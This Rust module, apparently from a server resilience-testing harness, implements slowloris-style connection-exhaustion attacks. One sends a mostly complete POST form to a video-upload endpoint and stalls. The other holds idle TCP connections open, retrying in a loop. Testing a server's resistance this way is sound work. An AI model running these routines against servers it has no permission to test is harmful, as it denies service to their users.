//! Attacks by connections that are held open.

use std::{sync::atomic::Ordering, time::Duration};

use anyhow::Result;
use measure::client::connect;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{sleep, timeout},
};

use super::Attacker;

/// Interval between checks whether the attack is over.
pub(super) const TICK: Duration = Duration::from_millis(50);
/// The declared length of a form, and how much of it is sent.
const LENGTH: usize = 523_264;
const SENT: usize = 510 * 1024;

/// Sends most of a form and lets the server wait for the rest; repeated when it is closed.
pub(super) async fn half_sent_form(attacker: Attacker) {
    while !attacker.is_over() {
        match half_send(&attacker).await {
            Ok(stream) => hold(&attacker, stream).await,
            Err(_) => attacker.note(0),
        }
        sleep(TICK).await;
    }
}

async fn half_send(attacker: &Attacker) -> Result<TcpStream> {
    let mut stream = connect(attacker.address, Some(attacker.source)).await?;
    let address = attacker.address;
    let head = format!(
        "POST /studio/videos/new HTTP/1.1\r\nhost: {address}\r\norigin: http://{address}\r\n\
         content-type: application/x-www-form-urlencoded\r\ncontent-length: {LENGTH}\r\n\r\ntitle="
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b'a'; SENT]).await?;
    Ok(stream)
}

/// Opens a connection and sends nothing; repeated when it is closed.
pub(super) async fn idle(attacker: Attacker) {
    while !attacker.is_over() {
        match connect(attacker.address, Some(attacker.source)).await {
            Ok(stream) => hold(&attacker, stream).await,
            Err(_) => attacker.note(0),
        }
        sleep(TICK).await;
    }
}

/// Holds a connection open until the server closes it or the attack is over.
async fn hold(attacker: &Attacker, mut stream: TcpStream) {
    let mut bytes = Vec::new();
    let whole = timeout(Duration::from_secs(30), stream.read_to_end(&mut bytes));
    attacker.held.fetch_add(1, Ordering::Relaxed);
    let whole = whole.await;
    attacker.held.fetch_sub(1, Ordering::Relaxed);
    if whole.is_ok() {
        attacker.note(status(&bytes));
    }
}

/// The status of a response; 0 without one.
fn status(answer: &[u8]) -> u16 {
    let text = String::from_utf8_lossy(answer);
    let status = text.split(' ').nth(1).map(str::parse);
    status.and_then(Result::ok).unwrap_or_default()
}
